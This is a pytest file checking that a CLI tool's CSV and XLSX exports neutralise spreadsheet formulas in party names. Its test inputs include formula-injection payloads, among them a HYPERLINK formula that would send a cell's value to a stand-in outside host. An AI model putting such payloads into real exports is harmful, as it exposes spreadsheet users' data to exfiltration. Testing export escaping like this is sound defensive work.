"""Answers as CSV: what a spreadsheet would run becomes text."""

import csv
import io

import openpyxl
import pytest
from typer.testing import CliRunner

from graph_service.cli import app


def written(party: str) -> list[list[str]]:
    """Return the rows of an answer about a party of this name."""
    options = ["--worth", f"{party}=-1.5", "--format", "csv"]
    run = CliRunner().invoke(app, ["shapley", *options], catch_exceptions=False)
    assert run.exit_code == 0, run.output
    return list(csv.reader(io.StringIO(run.stdout, newline="")))


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        '=HYPERLINK("https://elsewhere.example/?"&A1)',
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "＝1+1",
        "-",
        "-1-2",
        "=",
        "'=1",
    ],
)
def test_a_formula_becomes_text(name: str) -> None:
    _, row = written(name)
    assert row[0] == f"'{name}"


@pytest.mark.parametrize("name", ["a", "a=1", "1+1", "-1", "+1.5", "-1e9", " =1", "'a", "æ", '"'])
def test_everything_else_stays(name: str) -> None:
    _, row = written(name)
    assert row[0] == name


@pytest.mark.parametrize("end", ["\r", "\r\n", "\n"])
def test_a_line_end_begins_no_row(end: str) -> None:
    assert written(f"a{end}=1+1")[1][0] == "a\n=1+1"
    assert written(f"{end}=1+1")[1][0] == "'\n=1+1"


def test_numbers_stay_numbers() -> None:
    header, row = written("a")
    assert "-1.5" in row, header


def test_a_workbook_holds_what_the_table_shows_and_no_formula() -> None:
    options = ["--worth", "=1+1=-1.5", "--format", "xlsx"]
    run = CliRunner().invoke(app, ["shapley", *options], catch_exceptions=False)
    assert run.exit_code == 0, run.output
    (sheet,) = openpyxl.load_workbook(io.BytesIO(run.stdout_bytes)).worksheets
    header, row = sheet.iter_rows()
    assert (row[0].value, row[0].data_type) == ("=1+1", "s")
    assert -1.5 in [cell.value for cell in row], [cell.value for cell in header]
